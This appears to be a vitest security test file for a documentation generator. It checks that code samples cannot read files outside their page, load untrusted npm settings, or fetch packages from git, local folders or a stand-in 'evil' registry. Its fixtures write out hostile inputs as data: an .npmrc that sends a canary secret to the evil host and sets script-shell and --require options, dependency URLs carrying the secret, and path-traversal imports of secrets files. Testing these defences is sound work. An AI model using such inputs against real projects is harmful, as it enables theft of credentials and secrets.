import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { installOptions } from '../../../src/features/samples/install-packages.ts'
import { createProject, type Files, plainEnv, writeFiles } from '../../cli/project.ts'
import { docsgen } from '../../cli/run-here.ts'
import { integrityOf, makePackage } from '../../stand-ins/make-tarball.ts'
import { type PublishedPackage, startRegistry } from '../../stand-ins/registry.ts'

const repository = join(import.meta.dirname, '../../..')
const canary = 'canary7f3a9c'
const secret = `export const token = '${canary}'\nexport type Token = '${canary}'\n`

function published(name: string, types: string): PublishedPackage {
  const manifest = JSON.stringify({ name, version: '1.0.0', types: 'index.d.ts' })
  return { name, version: '1.0.0', tarball: makePackage({ 'package.json': manifest, 'index.d.ts': types }) }
}

const boats = published('boats', 'export declare function launch(name: string): void\n')
const locked = (more: object = {}) => ({ version: '1.0.0', integrity: integrityOf(boats.tarball), ...more })
const lockOf = (packages: object) => JSON.stringify({ lockfileVersion: 3, packages }, undefined, 2)
const dependsOn = (spec: string) => JSON.stringify({ dependencies: { boats: spec } })

/** A project with secrets around it, whose owner uses one registry; `evil` is another server, and git a program that leaves a trace. */
async function createSite(files: (places: { readonly evil: string; readonly registry: string; readonly root: string }) => Files) {
  const registry = await startRegistry([boats])
  const evil = await startRegistry([boats])
  const root = createProject({})
  const parent = join(root, '..')
  mkdirSync(join(root, 'node_modules'))
  symlinkSync(join(repository, 'node_modules/typescript'), join(root, 'node_modules/typescript'))
  const trace = join(parent, 'git-was-started')
  writeFiles(parent, {
    'secrets.ts': secret,
    // docsgen itself runs git for pages; with these arguments, packages would be fetched.
    'tools/git': `#!/bin/sh\ncase "$*" in *ls-remote*|*clone*|*fetch*) touch '${trace}' ;; esac\nexit 1\n`,
    'home/.npmrc': `//${evil.host}/:_authToken=${canary}\n`,
  })
  chmodSync(join(parent, 'tools/git'), 0o755)
  writeFiles(root, {
    'docs.config.ts': "export default { title: 'Boats', lastUpdated: false, check: { samples: { packages: 'samples' } } }\n",
    '.npmrc': `registry=${registry.url}\ncache=${parent}/npm-cache\nlogs-max=0\nfetch-retries=0\n`,
    '.env': `TOKEN=${canary}\n`,
    'secrets.ts': secret,
    'secrets.json': `{ "token": "${canary}" }\n`,
    'samples/package.json': dependsOn('1.0.0'),
    'samples/package-lock.json': lockOf({ '': { dependencies: { boats: '1.0.0' } }, 'node_modules/boats': locked() }),
    'content/index.md': "# Home\n\n```ts\nimport { launch } from 'boats'\n\nlaunch(1)\n```\n",
    ...files({ evil: evil.url, registry: registry.url, root }),
  })
  const env = { PATH: `${parent}/tools:${process.env.PATH ?? ''}`, HOME: join(parent, 'home'), CANARY: canary }
  const run = (...args: readonly string[]) => docsgen(args, { cwd: root, env })
  /** Everything that leaked, and every server that was contacted. */
  const expectNothingOut = (output: string) => {
    expect(output).not.toContain(canary)
    expect(evil.requests).toEqual([])
    expect(registry.requests.join('\n')).not.toContain(canary)
    expect(existsSync(trace)).toBe(false)
    for (const folder of ['out', '.docsgen'])
      if (existsSync(join(root, folder)))
        for (const entry of readdirSync(join(root, folder), { recursive: true, withFileTypes: true }))
          if (entry.isFile()) expect(readFileSync(join(entry.parentPath, entry.name), 'latin1'), entry.name).not.toContain(canary)
  }
  return { root, run, registry, evil, trace, env, expectNothingOut }
}

/** `file:line code` of each problem. */
function places(stderr: string): readonly string[] {
  return [...stderr.matchAll(/^(\S+:\d+):\d+ - (?:error|warning) (\S+)$/gm)].map(([, place, code]) => `${place} ${code}`)
}

test('npm settings in the folder for samples are ignored', { timeout: 120_000 }, async () => {
  const { run, registry, expectNothingOut } = await createSite(({ evil }) => ({
    'samples/.npmrc': `registry=${evil}\${CANARY}/\n@acme:registry=${evil}\${CANARY}/\nproxy=${evil}\nscript-shell=\${CANARY}\nnode-options=--require=./x.cjs\n`,
  }))
  const { stderr, stdout, code } = await run('check')
  expect(places(stderr)).toEqual(['content/index.md:6 sample/type-error', 'samples/.npmrc:1 sample/npmrc-ignored'])
  expect(stderr).toContain('hint Move the settings that you need to the `.npmrc` file in the project folder')
  expect(code).toBe(1)
  expect([...new Set(registry.requests)]).toEqual(['/boats/-/boats-1.0.0.tgz', '/boats', '/boats/-/1.0.0.tgz'])
  expectNothingOut(stdout + stderr)
})

test.each<[name: string, files: (evil: string) => Files, found: string]>([
  ['a repository', () => ({ 'samples/package.json': dependsOn('git+file:///tmp/x.git') }), 'samples/package.json:1 sample/package-source'],
  [
    'a repository in the lock',
    () => ({ 'samples/package-lock.json': lockOf({ 'node_modules/boats': locked({ resolved: 'git+ssh://git@127.0.0.1/x.git#1' }) }) }),
    'samples/package-lock.json:7 sample/package-source',
  ],
  [
    'another server',
    (evil) => ({ 'samples/package-lock.json': lockOf({ 'node_modules/boats': locked({ resolved: `${evil}boats/-/1.0.0.tgz` }) }) }),
    'samples/package-lock.json:7 sample/package-registry',
  ],
  [
    'an address',
    (evil) => ({ 'samples/package.json': dependsOn(`${evil}\${CANARY}.tgz`) }),
    'samples/package.json:1 sample/package-source',
  ],
  ['a folder', () => ({ 'samples/package.json': dependsOn('file:../..') }), 'samples/package.json:1 sample/package-source'],
  [
    'a link',
    () => ({ 'samples/package-lock.json': lockOf({ 'node_modules/boats': { link: true, resolved: '../../..' } }) }),
    'samples/package-lock.json:5 sample/package-source',
  ],
  [
    'no hash',
    () => ({ 'samples/package-lock.json': lockOf({ 'node_modules/boats': { version: '1.0.0' } }) }),
    'samples/package-lock.json:4 sample/package-unverified',
  ],
  [
    'nothing that can be read',
    () => ({ 'samples/package-lock.json': '{ "lockfileVersion": 1 }' }),
    'samples/package-lock.json:1 sample/broken-lock',
  ],
])('npm is not started for packages from %s', { timeout: 60_000 }, async (_, files, found) => {
  const { run, registry, expectNothingOut } = await createSite(({ evil }) => files(evil))
  const { stderr, stdout, code } = await run('check')
  expect(places(stderr)).toEqual([found])
  expect(code).toBe(1)
  expect(registry.requests).toEqual([])
  expectNothingOut(stdout + stderr)
})

test('the lock can name the owner’s registry, which must deliver the locked packages', { timeout: 120_000 }, async () => {
  const site = await createSite(({ registry }) => ({
    'samples/package-lock.json': lockOf({ 'node_modules/boats': locked({ resolved: `${registry}boats/-/1.0.0.tgz` }) }),
  }))
  expect(places((await site.run('check')).stderr)).toEqual(['content/index.md:6 sample/type-error'])
  // Without npm, which needs twenty times as long.
  expect(site.registry.requests).toEqual(['/boats/-/1.0.0.tgz'])
  const other = integrityOf(Buffer.from('other'))
  writeFiles(site.root, { 'samples/package-lock.json': lockOf({ 'node_modules/boats': locked({ integrity: other }) }) })
  const { stderr, code } = await site.run('check')
  expect(stderr).toContain('error The registry has a different file for `boats@1.0.0` than the one with the hash')
  expect(code).toBe(3)
})

test('npm’s options prevent it from running git', { timeout: 120_000 }, async () => {
  const { root, trace, env } = await createSite(() => ({}))
  const folder = join(root, 'install')
  const install = (options: readonly string[]) => {
    writeFiles(folder, { 'package.json': dependsOn('git+file:///tmp/not-there.git') })
    return spawnSync('npm', ['install', '--ignore-scripts', ...options], { cwd: folder, env: { ...plainEnv, ...env }, encoding: 'utf8' })
  }
  expect(install(installOptions(folder)).status).not.toBe(0)
  // Like an npm version without the other option.
  expect(install(installOptions(folder).filter((option) => !option.startsWith('--allow-git'))).status).not.toBe(0)
  expect(existsSync(trace)).toBe(false)
  expect(install([]).status).not.toBe(0)
  expect(existsSync(trace)).toBe(true)
})

test('samples read no file outside of their page, and none is shown', { timeout: 120_000 }, async () => {
  const wrongType = (importing: string) => `\`\`\`ts\n${importing}\nexport const wrong: 0 = token\n\`\`\`\n`
  const { run, root, expectNothingOut } = await createSite((at) => {
    const up = '../../../../../..'
    const specifiers = [
      `${at.root}/secrets`,
      `${up}/secrets`,
      `boats/${up}/secrets`,
      `@setup/../../../../secrets`,
      `@/${at.root}/secrets`,
      `#secrets`,
      `..\\\\${up.replaceAll('/', '\\\\')}\\\\secrets`,
      `file://${at.root}/secrets.ts`,
    ]
    const imports = [
      ...specifiers.map((specifier) => `import { token } from '${specifier}'`),
      `const { token } = await import(\`${up}/secrets\`)`,
      `declare const token: import('${up}/secrets').Token`,
      `import secrets = require('${up}/secrets')\nconst { token } = secrets`,
      `import { token } from '${at.root}/secrets.json'`,
      `import token '${at.root}/secrets'`,
    ]
    return {
      'package.json': '{ "imports": { "#secrets": "./secrets.ts" } }',
      'samples/tsconfig.json': JSON.stringify({
        compilerOptions: {
          target: 'ES2022',
          module: 'ESNext',
          moduleResolution: 'Bundler',
          resolveJsonModule: true,
          strict: true,
          paths: { '@setup/*': ['./shared/*'], '@/*': ['./*'] },
        },
      }),
      ...Object.fromEntries(imports.map((code, index) => [`content/page-${index}.md`, `# Page ${index}\n\n${wrongType(code)}`])),
      'content/other.md': [
        '# Other\n',
        '```graphql\n# import "../../secrets.graphql"\n{ boats }\n```\n',
        '```yaml\ntoken: !include ../secrets.json\n```\n',
        '```jsonc\n{ "extends": "../secrets.json", "$ref": "../secrets.json" }\n```\n',
        '```sh\ncat ../secrets.json $(echo $CANARY)\n```\n',
      ].join('\n'),
      'content/index.md': `# Home\n\n${imports.map((_, index) => `- [Page](./page-${index}.md)`).join('\n')}\n- [Other](./other.md)\n`,
    }
  })
  for (const args of [['check'], ['build', '--strict'], ['check', '--report', 'json']]) {
    const { stdout, stderr } = await run(...args)
    expect(stderr + stdout).toMatch(/sample\/import-outside/)
    expectNothingOut(stdout + stderr)
  }
  const { diagnostics } = JSON.parse((await run('check', '--report', 'json')).stdout)
  const found: readonly string[] = diagnostics.map(
    ({ code, location }: { code: string; location: { file: string; line: number } }) => `${location.file}:${location.line} ${code}`,
  )
  const pages = readdirSync(join(root, 'content')).filter((name) => name.startsWith('page-'))
  expect(pages.length).toBe(13)
  // No package of the samples has this name.
  const codeOf = (index: number) => (index === 5 ? 'sample/type-error' : index === 12 ? 'sample/syntax' : 'sample/import-outside')
  for (const index of pages.keys()) expect(found).toContain(`content/page-${index}.md:4 ${codeOf(index)}`)
  expect(found.filter((place) => place.startsWith('content/page-'))).toHaveLength(pages.length)
})

test('without their own packages, samples do not see the project’s private modules', { timeout: 60_000 }, async () => {
  const { run, expectNothingOut } = await createSite(() => ({
    'docs.config.ts': "export default { title: 'Boats', lastUpdated: false, check: { samples: {} } }\n",
    'package.json': '{ "name": "own", "imports": { "#secrets": "./secrets.ts" } }',
    'content/index.md': "# Home\n\n```ts\nimport { token } from '#secrets'\nexport const wrong: 0 = token\n```\n",
  }))
  const { stderr, stdout } = await run('check')
  expect(places(stderr)).toEqual(['content/index.md:4 sample/type-error'])
  expectNothingOut(stdout + stderr)
})
